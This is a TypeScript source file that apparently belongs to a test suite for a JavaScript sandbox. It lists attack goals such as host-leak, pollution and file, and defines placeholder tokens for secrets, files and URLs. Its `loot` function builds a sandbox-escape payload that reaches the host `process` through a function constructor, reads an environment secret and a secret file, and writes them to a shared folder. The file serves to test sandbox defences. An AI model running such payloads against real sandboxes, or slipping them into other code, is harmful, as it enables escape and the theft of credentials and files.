/** What an attack tries to get. */
export const goals = [
  'ambient',
  'constructor',
  'host-leak',
  'pollution',
  'coercion',
  'evasion',
  'stack',
  'file',
  'network',
  'write',
  'forgery',
  'cpu',
  'memory',
  'output',
  'parser',
  'polars',
] as const;

export type Goal = (typeof goals)[number];

/**
 * A program that tries to break out or to use more than it may. These words in its text stand for what it is after:
 * `@SECRET@` the name of a variable in the environment of the process that started the sandbox, `@FILE@` a file with a secret,
 * `@URL@` the address of a server that notes who calls, `@FOLDER@` a folder that anyone may write to.
 */
export interface Attack {
  readonly id: string;
  readonly goal: Goal | (string & {});
  readonly code: string;
}

/** Attacks of one goal, from their texts by name. */
export function attacks(goal: Goal, texts: Readonly<Record<string, string>>): Attack[] {
  return Object.entries(texts).map(([name, code]) => ({ id: `${goal}: ${name}`, goal, code }));
}

/**
 * A program that takes what should be a function constructor, makes a function with it and carries off whatever the host
 * has: a secret of the environment, the text of a file, a module.
 */
export function loot(functionConstructor: string): string {
  return `let found = 'nothing';
try {
  const make = ${functionConstructor};
  const host = make('return typeof process === "object" ? process : globalThis')();
  found = 'env ' + host.env['@SECRET@'];
  const fs = host.getBuiltinModule ? host.getBuiltinModule('fs') : host.mainModule.require('fs');
  found = found + ' file ' + fs.readFileSync('@FILE@', 'utf8');
  fs.writeFileSync('@FOLDER@/taken', found);
} catch (error) { found = found + ', then ' + error; }
found`;
}
